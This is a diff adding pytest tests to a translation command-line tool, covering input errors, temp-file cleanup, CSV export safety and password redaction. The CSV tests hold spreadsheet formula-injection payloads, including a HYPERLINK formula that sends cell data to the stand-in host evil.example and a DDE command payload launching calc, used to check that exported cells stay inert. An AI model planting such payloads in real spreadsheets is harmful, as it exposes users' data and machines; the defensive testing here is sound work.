@@ -300,3 +300,96 @@ def test_a_symlink_loop_under_a_glob_ends_and_a_linked_folder_is_searched(projec
         assert "today/a/b/first.txt" in result.stderr and "second.txt" in result.stderr
         assert "today/a/b/loop: a link to" in result.stderr and "not searched again" in result.stderr
         assert "today/dead.txt: a link to nothing; skipped" in result.stderr
+
+
+def test_a_folder_named_like_an_article_is_one_line(project, cli):
+    Path("x.txt").mkdir()
+    one_line(cli("translate", "x.txt", "--to", "vi", "--engine", "none"), 2, "x.txt: is a folder, not an article file")
+    assert not Path("locales").exists()
+
+
+def test_jobs_beyond_any_machine_is_refused_before_work(project, cli, installed_models):
+    one_line(cli("batch", "sample_articles/asean-japan.txt", "--to", "vi", "--jobs", "100000"), 2, "--jobs 100000: at most 64")
+    Path("transflow.toml").write_text("[engine]\ninter_threads = 100000\n", encoding="utf-8")
+    one_line(cli("translate", "sample_articles/asean-japan.txt", "--to", "vi"), 2, "inter_threads = 100000")
+    assert not Path("locales").exists()
+
+
+def test_a_killed_writers_leftover_beside_a_po_is_removed_by_a_later_batch_that_writes_nothing_there(project, cli):
+    assert cli("batch", "sample_articles/asean-japan.txt", "--to", "vi", "--engine", "none").code == 0
+    leftover = Path("locales/vi/.asean-japan.po.k1ll3d9x.tmp")
+    leftover.write_text("half a PO", encoding="utf-8")
+    os.utime(leftover, (1, 1))
+    rerun = run_transflow("batch", "sample_articles/asean-japan.txt", "--to", "vi", "--engine", "none")
+    assert "unchanged, skipped" in rerun.stderr and not leftover.exists()
+
+
+# CSV cells never run as formulas -----------------------------------------------------------
+
+HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")", "=1+1", "+84 hotline", "-ism", "@handle", "'-quoted", "=cmd|' /C calc'!A0"]
+
+
+def test_glossary_csv_cells_are_inert_in_a_spreadsheet_and_read_back_exactly(project, cli):
+    import csv
+    from transflow import glossary as glossaries
+    from transflow.glossary import Entry, Glossary, Term
+
+    glossaries.write(Glossary([Entry({"en": [Term(text)], "vi": [Term(f"vi {n}")]}, note=text) for n, text in enumerate(HOSTILE)]), Path("in.tbx"))
+    assert cli("glossary", "convert", "in.tbx", "out.csv").code == 0
+    rows = list(csv.reader(open("out.csv", encoding="utf-8", newline="")))
+    assert all(not cell[:1] or cell[0] not in "=+-@\t\r" for row in rows for cell in row), rows
+    back = glossaries.load([Path("out.csv")])
+    assert [("|".join(t.text for t in e.terms["en"]), e.note) for e in back.entries] == [(text, text) for text in HOSTILE]
+    assert cli("glossary", "convert", "out.csv", "again.tbx").code == 0
+    assert ["|".join(t.text for t in e.terms["en"]) for e in glossaries.load([Path("again.tbx")]).entries] == HOSTILE
+    shown = libreoffice_cells(Path("out.csv"))
+    assert "'=1+1" in shown and "2" not in shown and "click" not in shown  # shown as text, never computed
+
+
+def test_glossary_suggest_examples_from_an_article_are_inert(project, cli):
+    import csv
+
+    Path("attack.txt").write_text("=HYPERLINK(\"http://evil.example\",\"Nguyen Van An\") met ASEAN ministers in Hanoi.\n\n@Nguyen Van An spoke.\n", encoding="utf-8")
+    assert cli("glossary", "suggest", "attack.txt", "--to", "vi", "--engine", "none", "-o", "candidates.csv").code == 0
+    cells = [cell for row in csv.reader(open("candidates.csv", encoding="utf-8", newline="")) for cell in row]
+    assert any(cell.startswith("'=HYPERLINK") for cell in cells), cells
+    assert all(not cell[:1] or cell[0] not in "=+-@\t\r" for cell in cells)
+
+
+def libreoffice_cells(path: Path) -> list[str]:
+    """The cells LibreOffice Calc shows for a CSV, read from its HTML export (formulas would show their results)."""
+    import html
+    import re
+    import shutil
+    import subprocess
+
+    soffice = shutil.which("soffice")
+    if soffice is None:
+        pytest.skip("LibreOffice (soffice) is not installed")
+    profile = path.resolve().parent / "lo-profile"
+    done = subprocess.run(
+        [soffice, "--headless", f"-env:UserInstallation=file://{profile}", "--convert-to", "html", "--outdir", str(path.parent), str(path)],
+        capture_output=True, text=True, timeout=180,
+    )
+    exported = path.with_suffix(".html")
+    if not exported.exists():
+        pytest.skip(f"LibreOffice Calc could not open the CSV (is libreoffice-calc installed?): {done.stderr.strip()[:200]}")
+    text = exported.read_text(encoding="utf-8", errors="replace")
+    return [html.unescape(re.sub("<[^>]+>", "", cell)).strip() for cell in re.findall(r"<td[^>]*>(.*?)</td>", text, re.S)]
+
+
+# Passwords never printed ----------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("url", [
+    "postgresql://transflow@127.0.0.1:1/transflow?password=hunter2",
+    "postgresql://transflow@127.0.0.1:1/transflow?sslmode=disable&password=hunter2&application_name=x",
+    "postgresql://transflow:hunter2@127.0.0.1:1/transflow",
+])
+def test_a_password_in_a_tm_url_is_never_printed(project, cli, url):
+    for args in (["tm", "stats", "--tm", url], ["tm", "copy", url, "copy.sqlite"], ["tm", "export", "x.tmx", "--from", "en", "--to", "vi", "--tm", url]):
+        result = cli(*args)
+        assert result.code != 0 and "hunter2" not in result.stderr + result.stdout and "***" in result.stderr, result.stderr
+    from transflow.memory import redact
+
+    assert redact("mysql://u:hunter2@h/db?PASSWORD=hunter2") == "mysql://u:***@h/db?PASSWORD=***"
